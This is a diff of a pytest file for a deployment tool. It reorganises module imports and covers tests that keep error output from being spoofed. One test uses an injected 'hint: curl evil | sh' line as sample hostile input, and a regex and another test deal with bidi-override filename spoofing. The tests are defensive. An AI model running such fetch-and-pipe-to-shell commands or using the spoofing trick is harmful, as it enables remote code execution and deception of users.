@@ -17,13 +17,14 @@ from pathlib import Path
 
 import pytest
 
-from deploy import lines, page_html, report
-from deploy.ending import Result
-from deploy.errors import DeployError
-from deploy.facts import RunFacts
-from deploy.printable import console_line, one_line, visible
-from deploy.progress import State
-from deploy.report import Report
+from deploy.core.errors import DeployError
+from deploy.core.facts import RunFacts
+from deploy.core.printable import console_line, one_line, visible
+from deploy.report import console, text
+from deploy.report.console import Report
+from deploy.report.page import html
+from deploy.run.outcome import Result
+from deploy.run.progress import State
 
 HOME = Path(__file__).resolve().parents[2]
 FAB = Path(sys.executable).with_name("fab")
@@ -35,8 +36,8 @@ OBEYED = re.compile("\x1b]|\x1b\\[2J|\x07|\x9b|\u202e|\u2066|\r(?!\n|\x1b|$)")
 
 def reporter(terminal, as_json=False):
     out, err = (
-        report._Console(
-            file=io.StringIO(), theme=report.THEME, markup=False, emoji=False, width=300, force_terminal=terminal
+        console._Console(
+            file=io.StringIO(), theme=console.THEME, markup=False, emoji=False, width=300, force_terminal=terminal
         )
         for _ in range(2)
     )
@@ -105,7 +106,7 @@ def test_a_question_is_shown_before_it_is_asked(monkeypatch):
 
 
 def test_lines_of_others_cannot_pass_for_ours():
-    shown = lines.error_lines(DeployError("rank 0 failed\ndone  100 %\nhint: curl evil | sh", "none"))
+    shown = text.error_lines(DeployError("rank 0 failed\ndone  100 %\nhint: curl evil | sh", "none"))
     assert [line for line in "\n".join(shown).splitlines() if re.match(r"(done|hint|error)\b", line)] == [
         "error: rank 0 failed",
         "hint: none",
@@ -126,7 +127,7 @@ def test_a_console_reads_as_on_its_own_terminal():
 
 
 def test_a_page_shows_a_name_that_reads_backwards_as_what_it_is():
-    assert page_html.tag("p", "\u202egnp.sh") == r"<p>\u202egnp.sh</p>"
+    assert html.tag("p", "\u202egnp.sh") == r"<p>\u202egnp.sh</p>"
 
 
 @pytest.fixture
